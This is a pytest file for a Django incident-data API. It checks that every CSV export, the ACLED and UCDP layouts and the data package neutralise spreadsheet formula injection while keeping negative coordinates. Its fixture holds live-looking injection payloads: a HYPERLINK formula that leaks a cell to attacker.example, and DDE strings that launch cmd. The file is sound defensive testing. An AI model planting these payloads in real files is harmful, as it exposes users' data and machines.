"""No CSV Veta writes runs as a formula in a spreadsheet, and no number loses its sign.

Text cells starting with `=`, `+`, `-`, `@`, a tab or a carriage return get a leading `'`
(OWASP's advice against CSV injection), in every CSV export of the API (written by
PostgreSQL's COPY or by Python), the ACLED and UCDP layouts, and the data package.
Negative coordinates and plain numbers in text cells stay as they are.
"""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.test import Client

from core.api.csv_layout import FORMULA_START, neutralized
from incidents.models import Actor, Incident, IncidentActor, Source
from overview import package
from overview.api.urls import ENFORCEMENT_ROUTES, INCIDENT_ROUTES, REGION_ROUTES
from tests.exports import python_derived_incident_csv, streamed

pytestmark = pytest.mark.django_db

HOSTILE = {
    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Ver fuente")',
    "description": "+cmd|' /C calc'!A0",
    "location_name": "-2+3+cmd|' /C calc'!A0",
    "source_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "actor_name": "\t=1+1 banda armada",
    "outlet": "\r=1+1",
}


@pytest.fixture
def hostile_incident() -> Incident:
    incident = Incident.objects.create(
        title=HOSTILE["title"],
        description=HOSTILE["description"],
        location_name=HOSTILE["location_name"],
        incident_type="extortion",
        date_start=datetime.date(2024, 3, 9),
        date_end=datetime.date(2024, 3, 9),
        date_precision="day",
        region_id="17",
        province_id="1701",
        district_id="170101",
        place_precision="exact",
        latitude=Decimal("-12.593400"),
        longitude=Decimal("-69.189100"),
        status="published",
    )
    source = Source.objects.create(
        title=HOSTILE["source_title"], outlet=HOSTILE["outlet"], url="https://example.org/formula-source"
    )
    incident.sources.add(source)
    actor = Actor.objects.create(name=HOSTILE["actor_name"], kind=Actor._meta.get_field("kind").choices[0][0])
    IncidentActor.objects.create(incident=incident, actor=actor, role="perpetrator")
    return incident


def dangerous_cells(text: str) -> list[str]:
    """Cells a spreadsheet would take for a formula."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if FORMULA_START.match(cell)]


def test_the_rule_leaves_numbers_and_ordinary_text_alone() -> None:
    assert neutralized("=1+1") == "'=1+1"
    assert neutralized("-2+3") == "'-2+3"
    assert neutralized("+51 984 000 000") == "'+51 984 000 000"
    assert neutralized("@SUM(A1)") == "'@SUM(A1)"
    assert neutralized("\t=1") == "'\t=1"
    assert neutralized("－1") == "'－1"  # a full-width minus: LibreOffice reads it too
    for harmless in ("-12.5934", "-69", "+5", "12", "La Pampa", "a=b", "", None, Decimal("-12.5"), -3):
        assert neutralized(harmless) == harmless


def csv_exports() -> list[str]:
    urls = [f"/api/v1/{prefix}/?format=csv" for prefix, _viewset, _name in [*REGION_ROUTES, *INCIDENT_ROUTES]]
    urls += [f"/api/v1/{prefix}/?format=csv" for prefix, _viewset, _name in ENFORCEMENT_ROUTES]
    return [*urls, "/api/v1/incidents/?format=acled", "/api/v1/incidents/?format=ucdp"]


@pytest.mark.parametrize("url", csv_exports())
def test_no_export_holds_a_cell_a_spreadsheet_would_run(url: str, hostile_incident) -> None:
    text = streamed(Client().get(url))
    assert dangerous_cells(text) == []


def test_the_hostile_text_goes_out_inert_and_the_coordinates_keep_their_sign(hostile_incident) -> None:
    text = streamed(Client().get("/api/v1/incidents/?format=csv"))  # written by PostgreSQL (COPY)
    [row] = [row for row in csv.DictReader(io.StringIO(text)) if row["id"] == str(hostile_incident.pk)]
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["location_name"] == "'" + HOSTILE["location_name"]
    assert row["latitude"] == "-12.593400"
    assert row["longitude"] == "-69.189100"
    sources = streamed(Client().get("/api/v1/sources/?format=csv"))
    assert "'" + HOSTILE["source_title"] in sources
    actors = streamed(Client().get("/api/v1/actors/?format=csv"))
    assert "'" + HOSTILE["actor_name"] in actors


def test_postgresql_and_python_write_the_hostile_row_alike(hostile_incident) -> None:
    copied = b"".join(Client().get("/api/v1/incidents/?format=csv").streaming_content)
    queryset = Incident.objects.filter(status="published").for_list().order_by("-date_start", "-pk")
    assert copied == python_derived_incident_csv(queryset)


def test_the_acled_and_ucdp_layouts_keep_negative_coordinates(hostile_incident) -> None:
    for export in ("acled", "ucdp"):
        text = streamed(Client().get(f"/api/v1/incidents/?format={export}"))
        assert "-12.5934" in text and "-69.1891" in text, export


def test_the_data_package_holds_no_cell_a_spreadsheet_would_run(tmp_path, hostile_incident) -> None:
    target = tmp_path / "package.zip"
    package.build_package(target)
    with zipfile.ZipFile(target) as archive:
        tables = [name for name in archive.namelist() if name.endswith(".csv")]
        assert "data/incidents.csv" in tables
        for name in tables:
            text = archive.read(name).decode("utf-8")
            assert dangerous_cells(text) == [], name
        incidents = archive.read("data/incidents.csv").decode("utf-8")
    [row] = [row for row in csv.DictReader(io.StringIO(incidents)) if row["id"] == str(hostile_incident.pk)]
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["description"] == "'" + HOSTILE["description"]
    assert row["latitude"].startswith("-12.5934")
